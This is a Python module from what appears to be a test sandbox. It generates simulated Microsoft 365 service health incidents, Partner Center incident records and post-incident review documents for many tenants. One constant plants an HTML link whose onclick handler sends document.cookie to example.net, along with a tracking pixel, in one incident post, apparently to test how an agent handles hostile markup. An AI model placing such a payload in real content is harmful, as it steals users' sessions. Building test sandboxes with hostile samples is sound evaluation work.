"""The shared pool of service health issues: Graph issue JSON and Partner Center incidents.

One pool serves every tenant; each tenant sees a subset (see data.py), so the same incident
shows up for many customers, as a real widespread outage does.
"""

from __future__ import annotations

import html
import json
import random
import re
from dataclasses import dataclass, field
from datetime import datetime, timedelta

from desktop.sandbox import docx
from desktop.sandbox import issue_catalog as cat
from desktop.sandbox.catalog import PC_WORKLOADS, SERVICE_NAMES
from desktop.sandbox.timefmt import human, iso_ms, iso_z

ACTIVE_INCIDENT_STATUSES = (
    ("Investigating", 3),
    ("ServiceDegradation", 5),
    ("ServiceInterruption", 2),
    ("RestoringService", 3),
    ("ExtendedRecovery", 1),
    ("VerifyingService", 2),
)
# How bad a status is, to pick a service's overall health from the issues touching it.
STATUS_RANK = {
    "ServiceInterruption": 9,
    "ServiceDegradation": 8,
    "ExtendedRecovery": 7,
    "RestoringService": 6,
    "Investigating": 5,
    "VerifyingService": 4,
}
UNKNOWN_ACTIVE_RANK = 3
RECENT_RESOLVED = timedelta(hours=72)

# How a post's "Html" content is written. Most posts in Microsoft's published examples are
# plain text with "\n" line breaks and a blank line between paragraphs ("Title: ...\n\nUser
# Impact: ...": learn.microsoft.com/graph/api/serviceannouncement-list-issues, the
# serviceHealthIssue examples in microsoftgraph/microsoft-graph-docs-contrib); others carry real
# tags, <br> breaks or <p> paragraphs. Each issue keeps one form for all its posts.
TEXT, BR, P = "text", "br", "p"
FORMS = ((TEXT, 70), (BR, 15), (P, 15))
REVIEW_STATUS = "PostIncidentReviewPublished"

HOSTILE_MORE_INFO = (
    'More info: Admins can follow delivery with the <a href="https://learn.microsoft.com/en-us/'
    'exchange/monitoring/trace-an-email-message/message-trace-modern-eac" '
    "onclick=\"window.location='https://example.net/collect?c='+document.cookie\">message trace "
    'documentation</a>.<img src="https://example.net/pixel.png" width="1" height="1" alt="">'
)


@dataclass
class Issue:
    id: str
    template: cat.IssueTemplate
    status: str
    active: bool
    reach: float  # share of tenants (that have the service) that this issue touches
    start: datetime
    end: datetime | None
    posts: list[dict[str, object]] = field(default_factory=list)
    graph: dict[str, object] = field(default_factory=dict)
    graph_json: bytes = b""
    forced_first_customer: bool = False  # also touches the customer generated first
    form: str = TEXT  # how its posts are written: TEXT, BR or P

    @property
    def service(self) -> str:
        return self.template.service

    @property
    def has_report(self) -> bool:
        return self.status == "PostIncidentReviewPublished"

    def report(self) -> bytes:
        """The post-incident review: a Word document, as Microsoft publishes them."""
        t = self.template
        timeline = "\n\n".join(f"{p['createdDateTime']}: {_text(p)}" for p in self.posts)
        return docx.document(
            f"Post-incident review {self.id}",
            (
                ("", f"Title: {t.title}\nService: {SERVICE_NAMES[t.service]}"),
                (
                    "Incident summary",
                    f"Start time: {human(self.start)}\n"
                    f"End time: {human(self.end) if self.end else 'ongoing'}\n\n"
                    f"User impact: {t.user_impact}",
                ),
                ("Root cause", t.root_cause),
                ("Timeline", timeline),
                (
                    "Next steps",
                    "We're reviewing our change management and monitoring for this component "
                    "to help prevent similar impact in the future.",
                ),
            ),
        )

    def pc_incident(self, impacted_customers: int) -> dict[str, object]:
        """The Partner Center service incident form of this issue."""
        # ServiceIncidentDetail (Partner-Center-PowerShell src/PartnerCenter/Models/
        # ServiceIncidents/ServiceIncidentDetail.cs). MessageType has no "advisory"
        # (MessageType.cs: none, incident, messageCenter, all): Graph's advisories are
        # incidents here too.
        return {
            "id": self.id,
            "messageType": "incident",
            "startTime": iso_z(self.start),
            "endTime": iso_z(self.end) if self.end else None,
            "status": self.pc_status,
            "workload": PC_WORKLOADS[self.service],
            "affectedWorkloadNames": [SERVICE_NAMES[self.service]],
            "impactedArea": self.template.feature,
            "resolved": not self.active,
            "impactedCustomers": impacted_customers,
            # Set "only for message center type messages" (ServiceIncidentDetail.cs): an
            # incident has no category, and its Severity (a ServiceIncidentStatus) the default.
            "category": None,
            "severity": "normal",
            "messages": [
                {"publishedTime": p["createdDateTime"], "messageText": _text(p)} for p in self.posts
            ],
        }

    @property
    def pc_status(self) -> str:
        if not self.active:
            return "normal"
        if self.template.classification == "Advisory":
            return "information"
        return "critical" if self.status == "ServiceInterruption" else "warning"


def _text(post: dict[str, object]) -> str:
    """A post as Partner Center's plain `messageText`: tags gone, breaks kept as newlines."""
    description = post["description"]
    assert isinstance(description, dict)
    content = str(description["content"]).replace("<br>", "\n").replace("</p>", "\n\n")
    text = html.unescape(re.sub(r"<[^>]+>", "", content))
    return re.sub(r"\n{3,}", "\n\n", text).strip()


def compose(paragraphs: list[str], form: str) -> str:
    """A post's content from its paragraphs ("\n" inside one is a line break) in `form`."""
    if form == TEXT:
        return "\n\n".join(paragraphs)
    if form == BR:
        return "<br><br>".join(p.replace("\n", "<br>") for p in paragraphs)
    # Pretty-printed, one <p> a line: the newlines between the tags are not line breaks.
    return "\n".join("<p>" + p.replace("\n", "<br>") + "</p>" for p in paragraphs)


def _form(issue_id: str) -> str:
    # Its own stream: choosing a form must not shift the pool's other random draws.
    return _weighted(random.Random(f"form:{issue_id}"), FORMS)


def _weighted(rng: random.Random, options: tuple[tuple[str, int], ...]) -> str:
    return rng.choices([o[0] for o in options], weights=[o[1] for o in options])[0]


def _reach(rng: random.Random) -> float:
    tier = rng.random()
    if tier < 0.25:
        return rng.uniform(0.2, 0.6)  # widespread
    if tier < 0.65:
        return rng.uniform(0.05, 0.2)
    return rng.uniform(0.005, 0.04)  # narrow: a few customers


def build_pool(seed: int, now: datetime) -> list[Issue]:
    rng = random.Random(f"{seed}:issues")
    used: set[str] = set()
    pool: list[Issue] = []

    def new_id(prefix: str) -> str:
        while True:
            candidate = f"{prefix}{rng.randint(100000, 999999)}"
            if candidate not in used:
                used.add(candidate)
                return candidate

    for index, tmpl in enumerate(cat.TEMPLATES):
        copies = 2 if rng.random() < 0.7 else 1
        for copy in range(copies):
            hostile = index == 0 and copy == 0
            active = hostile or (copy == 0 and rng.random() < 0.4)
            issue_id = new_id(tmpl.prefix)
            # The hostile post is markup; one issue always has <p> posts; the rest as it falls.
            form = BR if hostile else P if (index, copy) == (1, 0) else _form(issue_id)
            issue = _make_issue(rng, tmpl, issue_id, active, now, hostile, form)
            issue.reach = 0.5 if hostile else _reach(rng)
            pool.append(issue)
    if not any(i.status == "ServiceInterruption" for i in pool):
        # Every run needs one critical outage, so that the worst status is always on show.
        worst = next(i for i in pool[1:] if i.active and i.template.classification == "Incident")
        worst.status = "ServiceInterruption"
    if not any(i.has_report for i in pool):
        # Every run needs a published review to download.
        reviewed = next(
            i
            for i in pool
            if not i.active
            and i.template.classification == "Incident"
            and i.end is not None
            and now - i.end > timedelta(days=1)
        )
        reviewed.status = REVIEW_STATUS
        reviewed.posts[-1] = _review_post(reviewed, str(reviewed.posts[-1]["createdDateTime"]))
    maintenance_id = new_id("FM")
    maintenance = _make_issue(
        rng, cat.MAINTENANCE, maintenance_id, True, now, False, _form(maintenance_id)
    )
    maintenance.status = cat.UNKNOWN_STATUS
    maintenance.reach = 0.03
    maintenance.forced_first_customer = True
    pool.append(maintenance)
    for issue in pool:
        issue.graph = _graph_issue(issue)
        issue.graph_json = json.dumps(issue.graph, ensure_ascii=False).encode("utf-8")
    return pool


def _make_issue(
    rng: random.Random,
    tmpl: cat.IssueTemplate,
    issue_id: str,
    active: bool,
    now: datetime,
    hostile: bool,
    form: str,
) -> Issue:
    end: datetime | None
    if active:
        start = now - timedelta(minutes=rng.randint(45, 72 * 60))
        end = None
        if tmpl.classification == "Incident":
            status = "ServiceDegradation" if hostile else _weighted(rng, ACTIVE_INCIDENT_STATUSES)
        else:
            status = "ServiceDegradation" if rng.random() < 0.8 else "Investigating"
    else:
        recent = rng.random() < 0.35
        ago = rng.randint(20, 72 * 60) if recent else rng.randint(72 * 60, 30 * 24 * 60)
        end = now - timedelta(minutes=ago, seconds=rng.randint(0, 59))
        start = end - timedelta(minutes=rng.randint(60, 30 * 60))
        roll = rng.random()
        if tmpl.classification == "Incident" and roll < 0.3 and now - end > timedelta(days=1):
            status = REVIEW_STATUS
        elif roll > 0.9:
            status = "FalsePositive"
        else:
            status = "ServiceRestored"
    start = start.replace(second=0, microsecond=0)
    issue = Issue(issue_id, tmpl, status, active, 0.0, start, end, form=form)
    issue.posts = _posts(rng, issue, now, hostile)
    return issue


def _posts(
    rng: random.Random, issue: Issue, now: datetime, hostile: bool
) -> list[dict[str, object]]:
    t = issue.template
    count = rng.randint(1, 8)
    if not issue.active:
        count = max(count, 2)
    if hostile:
        count = max(count, 3)
    first = issue.start + timedelta(minutes=rng.randint(5, 20))
    if issue.end is not None:
        last = issue.end + timedelta(minutes=rng.randint(5, 40))
    else:
        last = max(first, now - timedelta(minutes=rng.randint(3, 40)))
    last = min(last, now - timedelta(minutes=1))
    first = min(first, last)
    span = (last - first) / max(count - 1, 1)
    times = [first + span * i for i in range(count)]
    times = [
        tm + timedelta(seconds=rng.randint(0, 59), milliseconds=rng.randint(0, 999)) for tm in times
    ]
    service = SERVICE_NAMES[t.service]
    scope = rng.choice(cat.SCOPES)
    posts: list[dict[str, object]] = []
    for i, when in enumerate(times):
        next_update = (when + timedelta(hours=rng.randint(1, 4))).replace(minute=30, second=0)
        post_type = "Regular"
        final = issue.end is not None and i == count - 1
        if final and issue.status == REVIEW_STATUS:
            posts.append(_review_post(issue, iso_ms(when)))
            continue
        if final:
            parts = _final(t, issue, scope)
        elif i == 0:
            parts = [
                f"Title: {t.title}",
                f"User impact: {t.user_impact}",
                f"Current status: We're investigating a potential issue with {service} and are "
                "reviewing service telemetry to understand the impact.",
                f"Scope of impact: {scope}",
                f"Next update by: {human(next_update)}",
            ]
        elif rng.random() < 0.25:
            post_type = "Quick"
            parts = [
                f"Current status: {rng.choice(cat.QUICK)}",
                f"Next update by: {human(next_update)}",
            ]
        else:
            progress = rng.choice(cat.PROGRESS).format(pct=rng.choice((30, 50, 75, 90)))
            parts = [f"Title: {t.title}", f"User impact: {t.user_impact}"]
            if hostile and i == 1:
                parts.append(HOSTILE_MORE_INFO)
            elif t.link and i == 1:
                # In a text post too: then the post is text with newlines and a tag in it.
                parts.append(
                    f'More info: For more information, see <a href="{t.link}">this article</a>.'
                )
            parts += [
                f"Current status: {progress}",
                f"Scope of impact: {scope}",
                f"Start time: {human(issue.start)}",
            ]
            if i >= 2:
                parts.append(f"Root cause: {t.root_cause}")
            parts.append(f"Next update by: {human(next_update)}")
        posts.append(_post(iso_ms(when), post_type, compose(parts, issue.form)))
    return posts


def _post(created: str, post_type: str, content: str) -> dict[str, object]:
    return {
        "createdDateTime": created,
        "postType": post_type,
        "description": {"contentType": "Html", "content": content},
    }


def _review_post(issue: Issue, created: str) -> dict[str, object]:
    """The last post of an issue whose review is out (status PostIncidentReviewPublished)."""
    parts = [
        f"Title: {issue.template.title}",
        "A post-incident report has been published. The report contains a detailed timeline, "
        "the root cause and the actions we're taking to prevent this problem from happening "
        "again.",
    ]
    return _post(created, "Strategic", compose(parts, issue.form))


def _final(t: cat.IssueTemplate, issue: Issue, scope: str) -> list[str]:
    assert issue.end is not None
    if issue.status == "FalsePositive":
        status = (
            "After further investigation, we've determined that the service wasn't "
            "affected and that this event was a false positive."
        )
    else:
        status = (
            "We've confirmed that the mitigation has resolved the impact after monitoring "
            "the service telemetry."
        )
    parts = [
        f"Title: {t.title}",
        f"User impact: {t.user_impact}",
        f"Final status: {status}",
        f"Scope of impact: {scope}",
        # One paragraph, two lines: a single "\n" (or <br>) between them.
        f"Start time: {human(issue.start)}\nEnd time: {human(issue.end)}",
        f"Root cause: {t.root_cause}",
        "Next steps: We're reviewing our change and monitoring procedures to help prevent "
        "similar impact in the future.",
    ]
    if t.classification == "Incident":
        parts.append("This is the final update for the event.")
    return parts


def _graph_issue(issue: Issue) -> dict[str, object]:
    t = issue.template
    details = [{"name": "NotifyInApp", "value": "True"}] if t.classification == "Incident" else []
    last = str(issue.posts[-1]["createdDateTime"]) if issue.posts else iso_z(issue.start)
    return {
        "id": issue.id,
        "title": t.title,
        "service": SERVICE_NAMES[t.service],
        "feature": t.feature,
        "featureGroup": t.feature_group,
        "classification": t.classification,
        "origin": "Microsoft",
        "status": issue.status,
        "startDateTime": iso_z(issue.start),
        "endDateTime": iso_z(issue.end) if issue.end else None,
        "lastModifiedDateTime": last,
        "isResolved": not issue.active,
        "impactDescription": t.impact,
        "details": details,
        "posts": issue.posts,
    }


def service_status(issues: list[Issue], now: datetime) -> str:
    """A service's overall health from the issues touching it in one tenant."""
    best, best_rank = "ServiceOperational", 0
    for issue in issues:
        if issue.active:
            rank = STATUS_RANK.get(issue.status, UNKNOWN_ACTIVE_RANK)
        elif (
            issue.end is not None
            and now - issue.end < RECENT_RESOLVED
            and issue.status in ("ServiceRestored", "PostIncidentReviewPublished")
        ):
            rank = 1
        else:
            continue
        if rank > best_rank:
            best, best_rank = issue.status, rank
    return best
